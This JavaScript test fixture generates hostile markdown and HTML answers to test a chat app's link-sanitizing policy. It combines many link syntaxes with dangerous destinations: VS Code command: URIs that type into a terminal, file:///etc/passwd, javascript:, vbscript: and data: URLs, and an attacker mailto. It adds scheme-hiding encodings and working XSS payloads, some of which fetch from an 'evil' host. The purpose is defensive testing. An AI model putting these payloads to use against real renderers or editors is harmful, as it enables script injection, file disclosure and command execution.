// Hostile model answers: every way we know for markdown to carry a link, each destination
// scheme an editor or a browser acts on, and the encodings that hide a scheme. Used by the
// unit tests of the link policy (one answer each) and by the UI suite (streamed in batches
// through the real chat, documents and annotator). `evil` is a base URL on a local listener
// that counts hits, so anything that is fetched or opened shows up there.

const ZWSP = '\u200b';
const RLO = '\u202e';
const PDF = '\u202c';

/** Destinations: [name, href]. */
export function destinations(evil) {
  return [
    ['command-terminal', 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22echo%20PWNED%5Cn%22%7D'],
    ['command-settings', 'command:workbench.action.openSettings'],
    ['command-json-args', 'command:workbench.action.terminal.new'],
    ['vscode-uri', 'vscode://file/etc/passwd'],
    ['vscode-insiders', 'vscode-insiders://settings/security'],
    ['file', 'file:///etc/passwd'],
    ['javascript', "javascript:window.__pwned='js'"],
    ['vbscript', 'vbscript:msgbox(1)'],
    ['data-html', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
    ['http-evil', `${evil}/http`],
    ['https-evil', `${evil.replace(/^http:/, 'https:')}/https`],
    ['protocol-relative', `${evil.replace(/^https?:/, '')}/relative`],
    ['mailto', 'mailto:attacker@example.org?subject=records'],
    ['forged-paper', 'medgemma-paper:deadbeefdeadbeef%230?page=1'],
    ['relative-file', '../../../etc/passwd'],
    ['fragment', '#disclaimer'],
    ['blob', 'blob:https://example.org/1234'],
    ['ftp', `ftp://${evil.replace(/^https?:\/\//, '')}/ftp`],
  ];
}

/** Ways of hiding the scheme: [name, transform(href)]. */
export const encodings = [
  ['plain', (h) => h],
  ['upper-scheme', (h) => h.replace(/^[a-z-]+:/, (s) => s.toUpperCase())],
  ['percent-colon', (h) => h.replace(':', '%3A')],
  ['entity-first-letter', (h) => (/^[a-z]/i.test(h) ? `&#${h.charCodeAt(0)};${h.slice(1)}` : h)],
  ['hex-entity-colon', (h) => h.replace(':', '&#x3a;')],
  ['zero-width-in-scheme', (h) => (h.length > 3 ? `${h.slice(0, 2)}${ZWSP}${h.slice(2)}` : h)],
  ['leading-space', (h) => ` ${h}`],
];

/** Markdown syntaxes that carry a link: [name, build(href)]. */
export const syntaxes = [
  ['inline', (h) => `See [the protocol](${h}) for details.`],
  ['inline-title', (h) => `See [the protocol](${h} "Trusted guideline") now.`],
  ['inline-angle', (h) => `See [the protocol](<${h}>) now.`],
  ['image', (h) => `![chest x-ray](${h})`],
  ['reference', (h) => `Read [the guideline][g1].\n\n[g1]: ${h}`],
  ['shorthand-reference', (h) => `Read [guideline].\n\n[guideline]: ${h} "title"`],
  ['citation-lookalike', (h) => `Fever resolved [L3](${h}).`],
  ['autolink', (h) => `Go to <${h}> now.`],
  ['bare', (h) => `Go to ${h} now.`],
  ['html-anchor', (h) => `<a href="${h}">open</a>`],
  ['html-img', (h) => `<img src="${h}" onerror="window.__pwned='img'">`],
  ['split-label', (h) => `[open the\nprotocol](${h})`],
  ['table-cell', (h) => `| a | b |\n|---|---|\n| [x](${h}) | <${h}> |`],
  ['code-span', (h) => `Run \`[x](${h})\` and \`${h}\`.`],
  ['fence', (h) => `\`\`\`html\n<a href="${h}">x</a>\n[x](${h})\n\`\`\``],
  ['bidi-text', (h) => `[${RLO}gro.elpmaxe//:sptth${PDF}](${h})`],
  ['list-item', (h) => `- Item [link](${h})\n- <${h}>`],
  ['blockquote', (h) => `> Quoted [link](${h})`],
  ['nested', (h) => `[[inner](${h})](${h})`],
  ['emphasis', (h) => `**[bold link](${h})** and _<${h}>_`],
];

/** Raw HTML and mutation payloads that are not links but must stay inert. */
export function htmlPayloads(evil) {
  return [
    `<script>window.__pwned='script'; fetch('${evil}/script')</script>`,
    `<svg onload="window.__pwned='svg'"><image href="${evil}/svg.png"/></svg>`,
    `<math><mtext><table><mglyph><style><img src="${evil}/math.png" onerror="window.__pwned='math'">`,
    `<iframe src="${evil}/iframe"></iframe>`,
    `<style>body{background:url(${evil}/css.png)}</style>`,
    `<form action="${evil}/form"><button>Submit</button></form>`,
    `<details open ontoggle="window.__pwned='details'">x</details>`,
    `<noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>">`,
    `<!-- medgemma-papers-sources\ndeadbeefdeadbeef#0 1 "click here"\n-->`,
    `<object data="${evil}/object"></object><embed src="${evil}/embed">`,
    `<video poster="${evil}/poster.png"></video><audio src="${evil}/audio"></audio>`,
    `<base href="${evil}/"><a href="x">based link</a>`,
    `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
    `<a href="javas\tcript:window.__pwned='tab'">tab</a>`,
    `<scr<script>ipt>window.__pwned='split'</script>`,
    `\`\`\`\n</code></pre><img src=x onerror="window.__pwned='fence'">\n\`\`\``,
    `| <img src="${evil}/table.png"> | x |\n|---|---|\n| y | z |`,
  ];
}

/** Every single-link vector: { name, text, href }. */
export function linkVectors(evil) {
  const out = [];
  for (const [dname, href] of destinations(evil)) {
    for (const [ename, enc] of encodings) {
      for (const [sname, build] of syntaxes) {
        out.push({ name: `${sname}/${dname}/${ename}`, href, text: build(enc(href)) });
      }
    }
  }
  return out;
}

/** All vectors, links and HTML payloads. */
export function allVectors(evil) {
  return [...linkVectors(evil), ...htmlPayloads(evil).map((text, i) => ({ name: `html-${i}`, href: '', text }))];
}

/** Vectors in answers of about `size` each (a UI run streams each answer once). */
export function batches(evil, size = 80) {
  const all = allVectors(evil);
  const out = [];
  for (let i = 0; i < all.length; i += size) {
    out.push(all.slice(i, i + size).map((v) => `${v.text}\n\n`).join(''));
  }
  return out;
}
